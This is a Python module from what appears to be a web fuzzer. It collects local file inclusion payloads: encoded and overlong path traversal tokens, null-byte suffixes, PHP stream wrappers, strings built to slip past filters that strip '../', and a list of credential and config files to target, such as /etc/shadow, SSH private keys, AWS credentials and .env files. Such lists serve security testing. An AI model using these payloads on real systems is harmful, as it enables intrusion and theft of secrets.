# webfuzzer/payloads/lfi.py
"""
Path-target building blocks:
  - Traversal tokens with / and \\ (raw, URL- and double-encoded, overlong).
  - Null-byte suffixes.
  - Protocol wrappers (php://filter, file://, zip://, phar://, ...).
  - Curated target file lists, grouped by value.
"""

TRAVERSAL_TOKENS = [
    "../",                  # unix
    "..\\",                 # win
    "..%2f",
    "%2e%2e/",
    "..%252f",              # double-enc ../
    "%252e%252e/",
    "..%5c",
    "%2e%2e\\",
    "..%255c",
    "..././",               # naive strip bypass
    "....//",
    "..%c0%af",             # overlong utf-8
    "..;/",
]

NULL_BYTES = ["%00", "\x00", "%2500"]
NULL_BYTE_EXTENSIONS = ["", ".jpg", ".html"]

WRAPPERS = [
    "php://filter/convert.base64-encode/resource=",
    "php://filter/read=string.rot13/resource=",
    "php://filter/convert.iconv.utf-8.utf-16/resource=",
    "php://filter/zlib.deflate/resource=",
    "file://",
    "zip://",
    "phar://",
    "glob://",
]

# Mixed strings aimed at normalisers that strip "../" a single time.
WAF_CONFUSION = [
    "....//....//....//....//....//....//",
    "..%252f..%252f..%252f..%252f..%252f..%252f",
    "..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/",
]

JUICY_FILES = {
    "credentials": [
        "/etc/passwd",
        "/etc/shadow",
        "/.htpasswd",
        "/root/.bash_history",
        "/root/.ssh/id_rsa",
        "/.aws/credentials",
        "/var/www/.env",
        "/.env",
        "/wp-config.php",
        "/config.php",
        "/WEB-INF/web.xml",
    ],
    "configs": [
        "/etc/apache2/apache2.conf",
        "/etc/nginx/nginx.conf",
        "/etc/php.ini",
        "/etc/mysql/my.cnf",
        "/etc/redis/redis.conf",
    ],
    "logs": [
        "/var/log/apache2/access.log",
        "/var/log/apache2/error.log",
        "/var/log/nginx/access.log",
        "/var/log/auth.log",
        "/proc/self/environ",
    ],
    "windows": [
        "C:/Windows/win.ini",
        "C:/boot.ini",
        "C:/inetpub/wwwroot/web.config",
        "C:/Windows/System32/drivers/etc/hosts",
    ],
}


def is_windows_path(target: str) -> bool:
    return len(target) > 2 and target[1] == ":" and target[0].isalpha()
